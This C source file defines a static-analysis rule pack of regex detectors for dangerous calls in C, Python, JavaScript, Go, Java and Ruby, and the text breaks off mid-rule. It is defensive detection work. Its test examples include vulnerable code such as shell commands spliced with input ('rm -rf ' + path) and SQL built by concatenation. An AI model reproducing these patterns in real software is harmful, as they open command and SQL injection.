/*
 * pack_risky.c - the built-in `risky` rule pack: calls that are dangerous
 * whatever the context, per language. Unbounded C string functions and
 * variable format strings; shells run with spliced-in text (system(),
 * shell=True, child_process.exec, `sh -c`, backticks); code and object
 * loaders fed from outside (eval, pickle, yaml.load, Marshal,
 * ObjectInputStream, unserialize); TLS verification turned off; SQL built
 * by concatenation or interpolation; `curl | sh`, chmod 777 and GitHub
 * Actions script injection.
 *
 * Every message says why the call is dangerous and what to use instead.
 * Precision over recall, as in every pack: a rule names the exact call
 * (`snprintf` is not `sprintf`, `model.eval()` is not `eval()`), skips
 * comment lines with `exclude_line`, and carries examples it must and must
 * not flag, which the unit tests check. Keywords are local: the regex runs
 * only on lines that hold one.
 *
 * A match stays on its line (review/rules.h), except for the few rules
 * marked `multiline`: calls and queries that code often spreads over
 * several lines (an SQL template literal, exec.Command( with one argument
 * a line); each carries a multi-line example. Their snippets show every
 * line of the match, masked line by line like any snippet.
 *
 * Not for: style, or anything that needs data flow to judge (taint
 * tracking is the agents' and the structural checks' business); secrets
 * (pack_secrets.c).
 */
#include <stddef.h>

#include "review/rules.h"

static const struct review_rule_spec review_pack_risky_rules[] = {
	{
		.id = "risky/c-gets",
		.pattern = "(?<![\\w.>])gets\\s*\\(",
		.exclude_line = "^[ \\t]*(?://|/?\\*)",
		.message =
			"gets() cannot know the size of its buffer and overf"
			"lows it on a long line (C11 removed it); use fgets("
			"buf, sizeof(buf), stdin)",
		.severity = REVIEW_SEV_ERROR,
		.languages = REVIEW_STRV(
			"c", "cpp", "objc"),
		.keywords = REVIEW_STRV(
			"gets"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"gets(line);", "if (gets(buf) == NULL)"),
		.examples_false = REVIEW_STRV(
			"fgets(buf, sizeof(buf), f);",
			"// gets(buf) is banned", "targets(x);", "s.gets(x)"),
	},
	{
		.id = "risky/c-strcpy",
		.pattern = "(?<![\\w.>])(?:strcpy|stpcpy|wcscpy)\\s*\\(",
		.exclude_line = "^[ \\t]*(?://|/?\\*)",
		.message =
			"strcpy() writes until the source ends, whatever the"
			" size of the destination: a buffer overflow when th"
			"e source is longer; use snprintf(dst, sizeof(dst), "
			"\"%s\", src) or a length-checked copy",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"c", "cpp", "objc"),
		.keywords = REVIEW_STRV(
			"strcpy", "stpcpy", "wcscpy"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"strcpy(dst, src);", "p = stpcpy(p, name);"),
		.examples_false = REVIEW_STRV(
			"strncpy(d, s, n);", "strlcpy(d, s, sizeof(d));",
			"/* strcpy(d, s) */", "my_strcpy(d, s);"),
	},
	{
		.id = "risky/c-strcat",
		.pattern = "(?<![\\w.>])(?:strcat|wcscat)\\s*\\(",
		.exclude_line = "^[ \\t]*(?://|/?\\*)",
		.message =
			"strcat() appends without knowing the room left in t"
			"he destination: a buffer overflow when the strings "
			"are long; track the length and use snprintf() or a "
			"growable buffer",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"c", "cpp", "objc"),
		.keywords = REVIEW_STRV(
			"strcat", "wcscat"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"strcat(path, \"/\");"),
		.examples_false = REVIEW_STRV(
			"strncat(a, b, n);", "// strcat(a, b)",
			"buf_strcat(b, s);"),
	},
	{
		.id = "risky/c-sprintf",
		.pattern = "(?<![\\w.>])v?sprintf\\s*\\(",
		.exclude_line = "^[ \\t]*(?://|/?\\*)",
		.message =
			"sprintf() does not know the size of its buffer, so "
			"a long argument overflows it; use snprintf(buf, siz"
			"eof(buf), ...) and check the result for truncation",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"c", "cpp", "objc"),
		.keywords = REVIEW_STRV(
			"sprintf"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"sprintf(buf, \"%d\", n);", "vsprintf(out, fmt, ap);"),
		.examples_false = REVIEW_STRV(
			"snprintf(buf, sizeof(buf), \"%d\", n);",
			"vsnprintf(b, n, f, ap);", "asprintf(&s, \"%d\", n);",
			"// sprintf(buf, x)"),
	},
	{
		.id = "risky/c-format-string",
		.pattern =
			"(?<![\\w.>])(?:printf\\s*\\(|fprintf\\s*\\(\\s*\\w+"
			"\\s*,|dprintf\\s*\\(\\s*\\w+\\s*,|syslog\\s*\\(\\s*"
			"[\\w|\\s]+,)\\s*(?![A-Z][A-Z0-9_]*\\s*\\))[A-Za-z_]"
			"[\\w.\\->\\[\\]]*\\s*\\)",
		.exclude_line = "^[ \\t]*(?://|/?\\*)",
		.message =
			"the format string is a variable: if it can hold tex"
			"t from outside, a %n or %s in it reads or writes me"
			"mory (format string attack); print it with a litera"
			"l format, printf(\"%s\", s)",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"c", "cpp", "objc"),
		.keywords = REVIEW_STRV(
			"printf", "syslog"),
		.keywords_local = 1,
		/* calls and queries are often spread over lines */
		.multiline = 1,
		.examples_true = REVIEW_STRV(
			"printf(msg);", "fprintf(stderr, user_text);",
			"syslog(LOG_ERR, buf);",
			"fprintf(stderr,\n\t    user_text);"),
		.examples_false = REVIEW_STRV(
			"printf(\"%s\", msg);",
			"fprintf(stderr, \"%s\\n\", msg);",
			"printf(_(\"text\"));", "printf(USAGE);",
			"// printf(msg);"),
	},
	{
		.id = "risky/c-system",
		.pattern = "(?<![\\w.>])(?:system|popen)\\s*\\(",
		.exclude_line = "^[ \\t]*(?://|/?\\*)",
		.message =
			"system() and popen() run a command line through /bi"
			"n/sh: any part of it that comes from input can inje"
			"ct commands, and the shell depends on the environme"
			"nt; run the program with an argument vector (posix_"
			"spawn, execv)",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"c", "cpp", "objc"),
		.keywords = REVIEW_STRV(
			"system", "popen"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"system(cmd);", "FILE *p = popen(command, \"r\");"),
		.examples_false = REVIEW_STRV(
			"subsystem(x);", "my_system(x);", "/* system(cmd) */",
			"filesystem_init();"),
	},
	{
		.id = "risky/c-alloca",
		.pattern = "(?<![\\w.>])alloca\\s*\\(",
		.exclude_line = "^[ \\t]*(?://|/?\\*)",
		.message =
			"alloca() takes stack space with no failure report: "
			"a large or attacker-controlled size overflows the s"
			"tack silently; use malloc() and check it, or a fixe"
			"d-size array with a bounds check",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"c", "cpp", "objc"),
		.keywords = REVIEW_STRV(
			"alloca"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"char *p = alloca(n);"),
		.examples_false = REVIEW_STRV(
			"/* alloca(n) */", "my_alloca(n);"),
	},
	{
		.id = "risky/c-atoi",
		.pattern = "(?<![\\w.>])ato(?:i|l|ll|f)\\s*\\(",
		.exclude_line = "^[ \\t]*(?://|/?\\*)",
		.message =
			"atoi() and friends cannot report an error: \"abc\" "
			"and \"0\" both give 0 and overflow is undefined; us"
			"e strtol() with an end pointer and errno",
		.severity = REVIEW_SEV_NOTE,
		.languages = REVIEW_STRV(
			"c", "cpp", "objc"),
		.keywords = REVIEW_STRV(
			"atoi", "atol", "atof"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"int n = atoi(argv[1]);", "long x = atol(s);"),
		.examples_false = REVIEW_STRV(
			"strtol(s, &end, 10);", "// atoi(x)", "my_atoi(x);"),
	},
	{
		.id = "risky/c-tmpnam",
		.pattern = "(?<![\\w.>])(?:tmpnam|tempnam|mktemp)\\s*\\(",
		.exclude_line = "^[ \\t]*(?://|/?\\*)",
		.message =
			"tmpnam(), tempnam() and mktemp() return a name that"
			" another process can create first (a race that lets"
			" it redirect the write); use mkstemp() or tmpfile()"
			", which create the file atomically",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"c", "cpp", "objc"),
		.keywords = REVIEW_STRV(
			"tmpnam", "tempnam", "mktemp"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"char *name = tmpnam(NULL);", "mktemp(tmpl);"),
		.examples_false = REVIEW_STRV(
			"int fd = mkstemp(tmpl);", "// mktemp(x)"),
	},
	{
		.id = "risky/c-strtok",
		.pattern = "(?<![\\w.>])strtok\\s*\\(",
		.exclude_line = "^[ \\t]*(?://|/?\\*)",
		.message =
			"strtok() keeps hidden global state, so it is not re"
			"entrant or thread-safe and breaks when two loops ne"
			"st; use strtok_r() or strsep()",
		.severity = REVIEW_SEV_NOTE,
		.languages = REVIEW_STRV(
			"c", "cpp", "objc"),
		.keywords = REVIEW_STRV(
			"strtok"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"tok = strtok(line, \",\");"),
		.examples_false = REVIEW_STRV(
			"tok = strtok_r(line, \",\", &save);",
			"// strtok(x, y)"),
	},
	{
		.id = "risky/python-eval",
		.pattern =
			"(?<![\\w.])(?:eval|exec)\\s*\\(\\s*(?!\\)|(?:[rbuf]"
			"?[\"\\'])[^\"\\'\\n]*[\"\\']\\s*[,)])",
		.exclude_line = "^[ \\t]*#",
		.message =
			"eval() and exec() run a string as Python code: if a"
			"ny of it comes from input, that input can do anythi"
			"ng the program can; parse data with ast.literal_eva"
			"l() or json, and dispatch through a dict of functio"
			"ns",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"python"),
		.keywords = REVIEW_STRV(
			"eval", "exec"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"result = eval(expr)", "exec(code, env)"),
		.examples_false = REVIEW_STRV(
			"ast.literal_eval(x)", "model.eval()",
			"eval(\"1 + 2\")", "# eval(x)", "evaluate(x)"),
	},
	{
		.id = "risky/python-pickle-load",
		.pattern =
			"\\b(?:pickle|cPickle|_pickle|dill|joblib|shelve)\\."
			"(?:loads?|Unpickler|open)\\s*\\(",
		.exclude_line = "^[ \\t]*#",
		.message =
			"unpickling runs code chosen by whoever wrote the da"
			"ta: never load pickles that could come from users, "
			"the network or a shared cache; use JSON or another "
			"data-only format",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"python"),
		.keywords = REVIEW_STRV(
			"pickle.", "Pickle.", "dill.", "joblib.", "shelve."),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"obj = pickle.loads(data)", "m = joblib.load(path)"),
		.examples_false = REVIEW_STRV(
			"pickle.dumps(obj)", "pickle.dump(obj, f)",
			"# pickle.loads(x)"),
	},
	{
		.id = "risky/python-yaml-load",
		.pattern =
			"\\byaml\\.(?:unsafe_load(?:_all)?\\s*\\(|(?:full_)?"
			"load(?:_all)?\\s*\\((?![^\\n]*\\bLoader\\s*=\\s*(?:"
			"yaml\\.)?C?SafeLoader))",
		.exclude_line = "^[ \\t]*#",
		.message =
			"yaml.load() without SafeLoader can build arbitrary "
			"Python objects from the document, which runs code; "
			"use yaml.safe_load()",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"python"),
		.keywords = REVIEW_STRV(
			"yaml."),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"cfg = yaml.load(f)",
			"yaml.load(s, Loader=yaml.Loader)",
			"yaml.unsafe_load(s)"),
		.examples_false = REVIEW_STRV(
			"yaml.safe_load(f)",
			"yaml.load(f, Loader=yaml.SafeLoader)",
			"# yaml.load(f)"),
	},
	{
		.id = "risky/python-shell-true",
		.pattern = "\\bshell\\s*=\\s*True\\b",
		.exclude_line = "^[ \\t]*#",
		.message =
			"shell=True passes the command line through /bin/sh:"
			" any part of it that comes from input can inject co"
			"mmands; pass a list of arguments with shell=False",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"python"),
		.keywords = REVIEW_STRV(
			"shell"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"subprocess.run(cmd, shell=True)",
			"Popen(f\"ls {d}\", shell = True)"),
		.examples_false = REVIEW_STRV(
			"subprocess.run([\"ls\", d])",
			"subprocess.run(cmd, shell=False)",
			"# shell=True is dangerous"),
	},
	{
		.id = "risky/python-os-system",
		.pattern = "\\bos\\.(?:system|popen)\\s*\\(",
		.exclude_line = "^[ \\t]*#",
		.message =
			"os.system() and os.popen() run a command line throu"
			"gh the shell: input in it can inject commands; use "
			"subprocess.run() with a list of arguments",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"python"),
		.keywords = REVIEW_STRV(
			"os.system", "os.popen"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"os.system(\"rm -rf \" + path)",
			"out = os.popen(cmd).read()"),
		.examples_false = REVIEW_STRV(
			"subprocess.run([\"rm\", path])", "# os.system(x)"),
	},
	{
		.id = "risky/python-verify-false",
		.pattern = "\\bverify\\s*=\\s*False\\b",
		.exclude_line = "^[ \\t]*#",
		.message =
			"verify=False turns off TLS certificate checks, so a"
			"nyone on the network path can read and change the t"
			"raffic; keep verification on and pass verify=\"/pat"
			"h/to/ca.pem\" for a private CA",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"python"),
		.keywords = REVIEW_STRV(
			"verify"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"requests.get(url, verify=False)",
			"httpx.Client(verify = False)"),
		.examples_false = REVIEW_STRV(
			"requests.get(url)",
			"requests.get(url, verify=ca_path)", "# verify=False"),
	},
	{
		.id = "risky/python-weak-hash",
		.pattern =
			"\\bhashlib\\.(?:md5|sha1)\\s*\\(|\\bhashlib\\.new\\"
			"s*\\(\\s*[\"\\'](?:md5|sha1)[\"\\']",
		.exclude_line = "^[ \\t]*#|usedforsecurity\\s*=\\s*False",
		.message =
			"MD5 and SHA-1 are broken for security (collisions a"
			"re cheap): use hashlib.sha256() for integrity, a KD"
			"F such as hashlib.scrypt() for passwords; if this i"
			"s not for security, say so with usedforsecurity=Fal"
			"se",
		.severity = REVIEW_SEV_NOTE,
		.languages = REVIEW_STRV(
			"python"),
		.keywords = REVIEW_STRV(
			"hashlib."),
		.keywords_local = 1,
		/* calls and queries are often spread over lines */
		.multiline = 1,
		.examples_true = REVIEW_STRV(
			"h = hashlib.md5(data)", "hashlib.new(\"sha1\", x)",
			"hashlib.new(\n    \"md5\", x)"),
		.examples_false = REVIEW_STRV(
			"hashlib.sha256(data)",
			"hashlib.md5(data, usedforsecurity=False)",
			"# hashlib.md5(x)"),
	},
	{
		.id = "risky/python-mktemp",
		.pattern = "\\btempfile\\.mktemp\\s*\\(",
		.exclude_line = "^[ \\t]*#",
		.message =
			"tempfile.mktemp() returns a name another process ca"
			"n create first; use tempfile.mkstemp() or NamedTemp"
			"oraryFile(), which create the file atomically",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"python"),
		.keywords = REVIEW_STRV(
			"mktemp"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"path = tempfile.mktemp()"),
		.examples_false = REVIEW_STRV(
			"fd, path = tempfile.mkstemp()",
			"# tempfile.mktemp()"),
	},
	{
		.id = "risky/python-sql-format",
		.pattern =
			"\\.(?:execute|executemany|executescript|raw|exec_dr"
			"iver_sql)\\s*\\(\\s*(?:[rR]?[fF][rR]?[\"\\']|(?:\"["
			"^\"\\n]*\"|\\'[^\\'\\n]*\\')\\s*(?:%\\s*[\\w(]|\\+|"
			"\\.format\\s*\\())",
		.exclude_line = "^[ \\t]*#",
		.message =
			"an SQL statement built with an f-string, % or +: a "
			"quote in the inserted value changes the query (SQL "
			"injection); pass the values as parameters, cursor.e"
			"xecute(\"... WHERE id = %s\", (id,))",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"python"),
		.keywords = REVIEW_STRV(
			".execute", ".raw(", ".exec_driver_sql("),
		.keywords_local = 1,
		/* calls and queries are often spread over lines */
		.multiline = 1,
		.examples_true = REVIEW_STRV(
			"cur.execute(f\"SELECT * FROM t WHERE id = {uid}\")",
			"cur.execute(\"DELETE FROM t WHERE id = %s\" % uid)",
			"db.execute(\"SELECT * FROM t WHERE n = '\" + name +"
			" \"'\")",
			"cur.execute(\n    f\"SELECT * FROM t WHERE id = {uid}\"\n)"),
		.examples_false = REVIEW_STRV(
			"cur.execute(\"SELECT * FROM t WHERE id = %s\", (uid"
			",))",
			"cur.execute(query, params)",
			"# cur.execute(f\"SELECT {x}\")"),
	},
	{
		.id = "risky/js-eval",
		.pattern = "(?<![\\w.$])eval\\s*\\(",
		.exclude_line = "^[ \\t]*(?://|/?\\*)",
		.message =
			"eval() runs a string as code with the caller's priv"
			"ileges: any input in it is code injection, and it d"
			"efeats the optimiser; parse data with JSON.parse() "
			"and dispatch through an object of functions",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"javascript", "typescript", "vue", "svelte"),
		.keywords = REVIEW_STRV(
			"eval"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"const v = eval(expr);", "eval(`${a}+${b}`)"),
		.examples_false = REVIEW_STRV(
			"evaluate(x)", "obj.eval(x)", "// eval(x)",
			"const evalResult = 1;"),
	},
	{
		.id = "risky/js-new-function",
		.pattern = "\\bnew\\s+Function\\s*\\(",
		.exclude_line = "^[ \\t]*(?://|/?\\*)",
		.message =
			"new Function() compiles a string into code, which i"
			"s eval() under another name: input in it is code in"
			"jection; write the function out or use a lookup tab"
			"le",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"javascript", "typescript", "vue", "svelte"),
		.keywords = REVIEW_STRV(
			"Function"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"const f = new Function(\"a\", body);"),
		.examples_false = REVIEW_STRV(
			"function f(a) {}", "// new Function(x)",
			"new FunctionCall(x)"),
	},
	{
		.id = "risky/js-inner-html",
		.pattern = "\\.(?:innerHTML|outerHTML)\\s*\\+?=(?!=)",
		.exclude_line = "^[ \\t]*(?://|/?\\*)",
		.message =
			"assigning HTML from a variable lets any markup in i"
			"t run script in the page (cross-site scripting); se"
			"t textContent, build nodes with createElement, or s"
			"anitise with a vetted library",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"javascript", "typescript", "vue", "svelte"),
		.keywords = REVIEW_STRV(
			"innerHTML", "outerHTML"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"el.innerHTML = userInput;", "div.outerHTML += html;"),
		.examples_false = REVIEW_STRV(
			"el.textContent = userInput;",
			"if (el.innerHTML === \"\") {}", "// el.innerHTML = x",
			"const h = el.innerHTML;"),
	},
	{
		.id = "risky/js-document-write",
		.pattern = "\\bdocument\\.write(?:ln)?\\s*\\(",
		.exclude_line = "^[ \\t]*(?://|/?\\*)",
		.message =
			"document.write() injects raw HTML (cross-site scrip"
			"ting if any of it comes from input) and blocks pars"
			"ing; build the DOM with createElement and textConte"
			"nt",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"javascript", "typescript", "vue", "svelte"),
		.keywords = REVIEW_STRV(
			"document.write"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"document.write(\"<p>\" + name + \"</p>\");"),
		.examples_false = REVIEW_STRV(
			"// document.write(x)", "document.writeable = true;"),
	},
	{
		.id = "risky/js-child-process-exec",
		.pattern =
			"(?:\\b(?:child_process|childProcess|cp)\\.|(?<![\\w"
			".$]))(?:exec|execSync)\\s*\\(\\s*(?:`[^`\\n]*\\$\\{"
			"|[\"\\'][^\"\\'\\n]*[\"\\']\\s*\\+|[A-Za-z_$][\\w$]"
			"*\\s*[,)])",
		.exclude_line = "^[ \\t]*(?://|/?\\*)",
		.message =
			"exec() runs a command line through the shell: a val"
			"ue spliced into it can inject commands; use execFil"
			"e() or spawn() with an argument array",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"javascript", "typescript", "vue", "svelte"),
		.keywords = REVIEW_STRV(
			"exec"),
		.keywords_local = 1,
		/* calls and queries are often spread over lines */
		.multiline = 1,
		.examples_true = REVIEW_STRV(
			"exec(`git log ${branch}`, cb);",
			"child_process.execSync(\"rm -rf \" + dir);",
			"cp.exec(cmd, cb)",
			"child_process.exec(\n  `rm -rf ${dir}`,\n  cb);"),
		.examples_false = REVIEW_STRV(
			"execFile(\"git\", [\"log\", branch], cb);",
			"const m = re.exec(str);", "/^a/.exec(s)",
			"// exec(cmd)", "exec(\"ls -l\", cb);"),
	},
	{
		.id = "risky/js-dangerously-set-inner-html",
		.pattern = "\\bdangerouslySetInnerHTML\\s*=\\s*\\{",
		.exclude_line = "^[ \\t]*(?://|/?\\*)",
		.message =
			"dangerouslySetInnerHTML renders raw HTML: if any of"
			" it comes from users it is cross-site scripting; re"
			"nder text as children, or sanitise (DOMPurify) righ"
			"t where the HTML is made",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"javascript", "typescript", "vue", "svelte"),
		.keywords = REVIEW_STRV(
			"dangerouslySetInnerHTML"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"<div dangerouslySetInnerHTML={{ __html: body }} />"),
		.examples_false = REVIEW_STRV(
			"<div>{body}</div>", "// dangerouslySetInnerHTML={x}"),
	},
	{
		.id = "risky/js-tls-reject-unauthorized",
		.pattern =
			"\\brejectUnauthorized\\s*:\\s*false\\b|\\bNODE_TLS_"
			"REJECT_UNAUTHORIZED\\b[^\\n]*[=:]\\s*[\"\\']?0\\b",
		.exclude_line = "^[ \\t]*(?://|/?\\*)",
		.message =
			"this turns off TLS certificate checks, so anyone on"
			" the network path can read and change the traffic; "
			"keep them on and give the private CA with the `ca` "
			"option or NODE_EXTRA_CA_CERTS",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"javascript", "typescript", "vue", "svelte"),
		.keywords = REVIEW_STRV(
			"rejectUnauthorized", "NODE_TLS_REJECT_UNAUTHORIZED"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"https.request({ rejectUnauthorized: false })",
			"process.env.NODE_TLS_REJECT_UNAUTHORIZED = \"0\";"),
		.examples_false = REVIEW_STRV(
			"{ rejectUnauthorized: true }",
			"// rejectUnauthorized: false"),
	},
	{
		.id = "risky/js-sql-template",
		.pattern =
			"\\.(?:query|execute|raw|unsafe|\\$queryRawUnsafe|\\"
			"$executeRawUnsafe)\\s*\\(\\s*(?:`(?i:\\s*(?:select|"
			"insert|update|delete|with)\\b)[^`]*\\$\\{|[\"\\'](?"
			"i:\\s*(?:select|insert|update|delete|with)\\b)[^\""
			"\\'\\n]*[\"\\']\\s*\\+)",
		.exclude_line = "^[ \\t]*(?://|/?\\*)",
		.message =
			"an SQL statement built with ${} or +: a quote in th"
			"e inserted value changes the query (SQL injection);"
			" use placeholders, db.query(\"... WHERE id = $1\", "
			"[id]), or a tagged template that parameterises",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"javascript", "typescript", "vue", "svelte"),
		.keywords = REVIEW_STRV(
			"query", "execute", "raw(", "Unsafe(", "unsafe("),
		.keywords_local = 1,
		/* calls and queries are often spread over lines */
		.multiline = 1,
		.examples_true = REVIEW_STRV(
			"db.query(`SELECT * FROM users WHERE id = ${id}`)",
			"conn.execute(\"DELETE FROM t WHERE id = \" + id)",
			"await db.query(`\n  SELECT * FROM users\n  WHERE id = ${id}\n`);"),
		.examples_false = REVIEW_STRV(
			"db.query(\"SELECT * FROM users WHERE id = $1\", [id"
			"])",
			"sql`SELECT * FROM t WHERE id = ${id}`",
			"// db.query(`SELECT ${x}`)"),
	},
	{
		.id = "risky/go-exec-shell",
		.pattern =
			"\\bexec\\.Command(?:Context)?\\s*\\((?:[^,\\n]*,)?"
			"\\s*\"(?:/bin/|/usr/bin/)?(?:ba|z|da)?sh\"\\s*,\\s*"
			"\"-c\"",
		.exclude_line = "^[ \\t]*(?://|/?\\*)",
		.message =
			"running `sh -c` with a built string lets a value sp"
			"liced into it inject commands; run the program dire"
			"ctly, exec.Command(\"git\", \"log\", branch)",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"go"),
		.keywords = REVIEW_STRV(
			"exec.Command"),
		.keywords_local = 1,
		/* calls and queries are often spread over lines */
		.multiline = 1,
		.examples_true = REVIEW_STRV(
			"cmd := exec.Command(\"sh\", \"-c\", \"ls \"+dir)",
			"exec.CommandContext(ctx, \"/bin/bash\", \"-c\", scr"
			"ipt)",
			"cmd := exec.Command(\n\t\"sh\",\n\t\"-c\",\n\tscript)"),
		.examples_false = REVIEW_STRV(
			"exec.Command(\"ls\", dir)",
			"// exec.Command(\"sh\", \"-c\", x)"),
	},
	{
		.id = "risky/go-insecure-skip-verify",
		.pattern = "\\bInsecureSkipVerify\\s*:\\s*true\\b",
		.exclude_line = "^[ \\t]*(?://|/?\\*)",
		.message =
			"InsecureSkipVerify turns off TLS certificate checks"
			", so anyone on the network path can read and change"
			" the traffic; keep it false and add the private CA "
			"to RootCAs",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"go"),
		.keywords = REVIEW_STRV(
			"InsecureSkipVerify"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"tls.Config{InsecureSkipVerify: true}"),
		.examples_false = REVIEW_STRV(
			"tls.Config{InsecureSkipVerify: false}",
			"// InsecureSkipVerify: true"),
	},
	{
		.id = "risky/go-math-rand",
		.pattern = "\"math/rand(?:/v2)?\"",
		.exclude_line = "^[ \\t]*(?://|/?\\*)",
		.message =
			"math/rand is predictable: fine for simulations and "
			"jitter, never for tokens, keys, passwords or nonces"
			"; use crypto/rand for those",
		.severity = REVIEW_SEV_NOTE,
		.languages = REVIEW_STRV(
			"go"),
		.keywords = REVIEW_STRV(
			"math/rand"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"import \"math/rand\"", "\t\"math/rand\""),
		.examples_false = REVIEW_STRV(
			"import \"crypto/rand\"", "// \"math/rand\""),
	},
	{
		.id = "risky/go-sql-sprintf",
		.pattern =
			"\\.(?:Query|QueryRow|Exec|Prepare)(?:Context)?\\s*"
			"\\([^\\n]*\\bfmt\\.Sprintf\\s*\\(",
		.exclude_line = "^[ \\t]*(?://|/?\\*)",
		.message =
			"an SQL statement built with fmt.Sprintf: a quote in"
			" the inserted value changes the query (SQL injectio"
			"n); use placeholders, db.Query(\"... WHERE id = $1"
			"\", id)",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"go"),
		.keywords = REVIEW_STRV(
			"fmt.Sprintf"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"rows, err := db.Query(fmt.Sprintf(\"SELECT * FROM t"
			" WHERE id = %s\", id))"),
		.examples_false = REVIEW_STRV(
			"db.Query(\"SELECT * FROM t WHERE id = $1\", id)",
			"log.Print(fmt.Sprintf(\"x %d\", n))"),
	},
	{
		.id = "risky/java-runtime-exec",
		.pattern = "\\bRuntime\\.getRuntime\\(\\)\\.exec\\s*\\(",
		.exclude_line = "^[ \\t]*(?://|/?\\*)",
		.message =
			"Runtime.exec() with one string splits it on spaces "
			"in surprising ways and invites command injection wh"
			"en any part comes from input; use ProcessBuilder wi"
			"th a list of arguments",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"java", "kotlin", "scala", "groovy"),
		.keywords = REVIEW_STRV(
			"getRuntime()"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"Runtime.getRuntime().exec(\"ping \" + host);"),
		.examples_false = REVIEW_STRV(
			"new ProcessBuilder(\"ping\", host).start();",
			"// Runtime.getRuntime().exec(x)"),
	},
	{
		.id = "risky/java-object-input-stream",
		.pattern =
			"\\bnew\\s+ObjectInputStream\\s*\\(|\\.readObject\\s"
			"*\\(\\s*\\)",
		.exclude_line = "^[ \\t]*(?://|/?\\*)",
		.message =
			"Java deserialisation of untrusted data runs gadget "
			"chains in the classpath (remote code execution); us"
			"e a data format (JSON) or, if you must, an ObjectIn"
			"putFilter allow-list",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"java", "kotlin", "scala", "groovy"),
		.keywords = REVIEW_STRV(
			"ObjectInputStream", "readObject"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"ObjectInputStream in = new ObjectInputStream(sock.g"
			"etInputStream());",
			"Object o = in.readObject();"),
		.examples_false = REVIEW_STRV(
			"private void readObject(ObjectInputStream in)",
			"// in.readObject()"),
	},
	{
		.id = "risky/java-weak-hash",
		.pattern =
			"\\bMessageDigest\\.getInstance\\s*\\(\\s*\"(?i:MD5|"
			"MD2|SHA-?1)\"",
		.exclude_line = "^[ \\t]*(?://|/?\\*)",
		.message =
			"MD5 and SHA-1 are broken for security (collisions a"
			"re cheap): use SHA-256 for integrity and a password"
			" hash (PBKDF2, bcrypt, Argon2) for passwords",
		.severity = REVIEW_SEV_NOTE,
		.languages = REVIEW_STRV(
			"java", "kotlin", "scala", "groovy"),
		.keywords = REVIEW_STRV(
			"MessageDigest"),
		.keywords_local = 1,
		/* calls and queries are often spread over lines */
		.multiline = 1,
		.examples_true = REVIEW_STRV(
			"MessageDigest md = MessageDigest.getInstance(\"MD5"
			"\");",
			"MessageDigest.getInstance(\"SHA-1\")",
			"MessageDigest.getInstance(\n    \"MD5\")"),
		.examples_false = REVIEW_STRV(
			"MessageDigest.getInstance(\"SHA-256\")",
			"// MessageDigest.getInstance(\"MD5\")"),
	},
	{
		.id = "risky/ruby-eval",
		.pattern =
			"(?<![\\w.:])(?:eval|instance_eval|class_eval|module"
			"_eval)\\s*[( ]\\s*(?![\\'\"][^\\'\"#]*[\\'\"]|&|do"
			"\\b|\\{)",
		.exclude_line = "^[ \\t]*#",
		.message =
